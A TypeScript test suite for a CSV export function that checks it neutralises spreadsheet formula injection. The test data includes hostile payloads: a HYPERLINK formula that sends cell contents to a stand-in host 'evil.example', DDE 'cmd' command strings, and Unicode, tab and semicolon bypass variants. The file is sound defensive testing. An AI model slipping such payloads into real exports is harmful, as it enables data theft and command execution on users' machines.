import fc from "fast-check";
import Papa from "papaparse";
import { describe, expect, test } from "vitest";
import { toCsv } from "../../src/lib/csv.ts";

/** Returns what a spreadsheet shows for a value in a CSV file with only one column. */
const roundTrip = (value: unknown): string | undefined => {
  const { data } = Papa.parse<string[]>(toCsv(["a", "b"], [{ a: value, b: "end" }]), { newline: "\r\n" });
  return data[1]?.[0];
};

describe("toCsv", () => {
  test("The header and the rows are in the order of the columns, and every line ends with CRLF", () => {
    const rows = [
      { name: "Jane", hours: 7.5, extra: "dropped" },
      { hours: 0, name: "Li, Wei" },
    ];
    expect(toCsv(["name", "hours"], rows)).toBe('name,hours\r\nJane,7.5\r\n"Li, Wei",0\r\n');
  });

  test("Without rows, only the header is written", () => {
    expect(toCsv(["a", "b"], [])).toBe("a,b\r\n");
  });

  test("An empty row keeps its delimiters", () => {
    expect(toCsv(["a", "b", "c"], [{}, { b: 1 }])).toBe("a,b,c\r\n,,\r\n,1,\r\n");
  });

  test("Inherited properties are not read", () => {
    expect(toCsv(["constructor", "toString"], [{}])).toBe("constructor,toString\r\n,\r\n");
  });

  test.each([
    ["null", null, ""],
    ["undefined", undefined, ""],
    ["an object", { a: [1, '"'] }, '"{""a"":[1,""\\""""]}"'],
    ["an array", ["x"], '"[""x""]"'],
    ["a boolean", false, "false"],
    ["a number", 12.25, "12.25"],
    ["a negative number", -3.5, "-3.5"],
    ["no number", Number.NaN, ""],
    ["infinity", Number.NEGATIVE_INFINITY, ""],
    ["a date", new Date(0), "1970-01-01T00:00:00.000Z"],
    ["quotes", 'say "hi"', '"say ""hi"""'],
    ["line breaks", "a\nb", '"a\nb"'],
    ["blanks around", " a ", '" a "'],
    ["a hyphen inside", "pre-release", "pre-release"],
    ["an @ inside", "jane@example.com", "jane@example.com"],
  ])("A value is written as the text of one cell: %s", (_, value, cell) => {
    expect(toCsv(["v", "end"], [{ v: value, end: 1 }])).toBe(`v,end\r\n${cell},1\r\n`);
  });

  test.each([
    "=1+1",
    '=HYPERLINK("https://evil.example/?x="&A1,"click")',
    "=cmd|' /C calc'!A0",
    "=1+1\nsecond line",
    "=1+1\r\nsecond line",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "-1+1",
    "-3.5",
    "\tplain",
    "\rplain",
    "\nplain",
    " =1+1",
    "\u00a0=1+1",
    '"=1+1"',
    "'=1+1",
    "＝1+1",
    "＋1",
    "＠SUM(A1)",
    "－1",
    "\0=1+1",
  ])("The formula %j is neutralised", (payload) => {
    expect(roundTrip(payload)).toBe(`'${payload}`);
  });

  test("A payload cannot start a new cell", () => {
    expect(roundTrip('x",=1+1,"')).toBe('x",=1+1,"');
  });

  // A program that splits at ; or a tab sees a quote in the middle of a cell as text, so line breaks end rows there.
  test.each([
    ["a semicolon", "x;=1+1", "x;'=1+1"],
    ["each of two semicolons", "x;=1;+2", "x;'=1;'+2"],
    ["a tab", "x\t@SUM(A1)", "x\t'@SUM(A1)"],
    ["a tab at the start", "\t=1+1", "'\t'=1+1"],
    ["a line break", "x\r\n=1+1", "x\r\n'=1+1"],
    ["a semicolon, blanks and quotes", `x; "' -1`, `x; "' '-1`],
    ["several separators", "x;\t;\n＝1", "x;\t;\n'＝1"],
  ])("A formula after %s is neutralised", (_, payload, cell) => {
    expect(roundTrip(payload)).toBe(cell);
  });

  test("A formula inside details is neutralised", () => {
    expect(roundTrip({ a: "x;=1" })).toBe(`{"a":"x;'=1"}`);
  });

  test("Semicolons, tabs and line breaks without a formula stay as they are", () => {
    expect(roundTrip("a; b\tc\nd;")).toBe("a; b\tc\nd;");
  });

  test("Formulas in headers are neutralised", () => {
    expect(toCsv(["=1+1"], [])).toBe('"\'=1+1"\r\n');
  });

  test("A CSV reader returns any text, with apostrophes before formulas, whether it splits at commas, semicolons or tabs", () => {
    const text = fc.oneof(fc.string({ unit: "binary" }), fc.string({ unit: fc.constantFrom(..."=+-@\t\r\n;\"', a0") }));
    fc.assert(
      fc.property(text, (value) => {
        const cell = roundTrip(value) ?? "";
        expect(cell.replaceAll("'", "")).toBe(value.replaceAll("'", ""));
        expect(cell.trimStart()).not.toMatch(/^[=+\-@]/);
        for (const separator of [";", "\t"]) {
          const pieces = toCsv(["v"], [{ v: value }]).split(/[\r\n]/);
          for (const piece of pieces.flatMap((line) => line.split(separator))) {
            expect(piece.replace(/^[\s"]*/, "")).not.toMatch(/^[=+\-@]/);
          }
        }
        expect(cell).not.toMatch(/^[\t\r\n]/);
      }),
    );
  });
});
